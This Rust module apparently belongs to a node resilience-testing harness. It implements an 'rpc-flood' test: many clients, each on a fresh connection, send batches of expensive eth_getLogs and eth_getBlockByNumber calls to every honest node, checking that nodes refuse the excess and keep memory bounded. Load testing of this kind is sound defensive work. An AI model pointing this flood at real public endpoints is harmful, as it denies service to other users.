//! Clients post batches of expensive requests to every node, each on a new connection.
//!
//! Requirement: a node at its limits refuses requests, its memory is bounded, and other clients' transfers succeed.

use super::{Attack, By, SHORT_MESSAGES};
use crate::context::AttackContext;
use anyhow::Context;
use futures::future::join_all;
use std::time::Duration;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::{sleep, timeout},
};

/// Clients per node.
const CLIENTS: usize = 32;
/// Requests in one batch.
const BATCH: usize = 50;
/// Timeout of one response.
const RESPONSE_TIMEOUT: Duration = Duration::from_secs(5);
/// Maximum number of bytes of a response to read.
const MAX_RESPONSE_BYTES: u64 = 8 << 20;
/// Delay after a refusal.
const PAUSE: Duration = Duration::from_millis(20);

pub const ATTACK: Attack = Attack {
    name: "rpc-flood",
    item: "B10",
    about: "clients send batches of expensive requests, each on a new connection",
    by: By::Stranger,
    engine: None,
    signatures: None,
    restart: None,
    few: SHORT_MESSAGES,
    run: |context| Box::pin(run(context)),
};

async fn run(context: &AttackContext) -> anyhow::Result<()> {
    let rpc =
        |index: usize| context.victims.members[index].rpc.strip_prefix("http://").map(str::to_owned).context("an HTTP URL");
    let hosts = context.honest().into_iter().map(rpc).collect::<anyhow::Result<Vec<_>>>()?;
    join_all((0..CLIENTS).flat_map(|_| &hosts).map(|host| flood(context, host))).await;
    Ok(())
}

async fn flood(context: &AttackContext, host: &str) {
    let request = request(host);
    while context.budget.take() {
        let asked = timeout(RESPONSE_TIMEOUT, post(host, request.as_bytes())).await;
        if !matches!(asked, Ok(Ok(()))) {
            sleep(PAUSE).await;
        }
    }
}

async fn post(host: &str, request: &[u8]) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(host).await?;
    stream.write_all(request).await?;
    let mut answer = Vec::new();
    stream.take(MAX_RESPONSE_BYTES).read_to_end(&mut answer).await.map(drop)
}

fn request(host: &str) -> String {
    let logs = r#""method":"eth_getLogs","params":[{"fromBlock":"0x0","toBlock":"latest"}]"#;
    let block = r#""method":"eth_getBlockByNumber","params":["latest",true]"#;
    let call = |id: usize| format!(r#"{{"jsonrpc":"2.0","id":{id},{}}}"#, if id.is_multiple_of(2) { logs } else { block });
    let body = format!("[{}]", (0..BATCH).map(call).collect::<Vec<_>>().join(","));
    let head = "content-type: application/json\r\nconnection: close";
    format!("POST / HTTP/1.1\r\nhost: {host}\r\n{head}\r\ncontent-length: {}\r\n\r\n{body}", body.len())
}
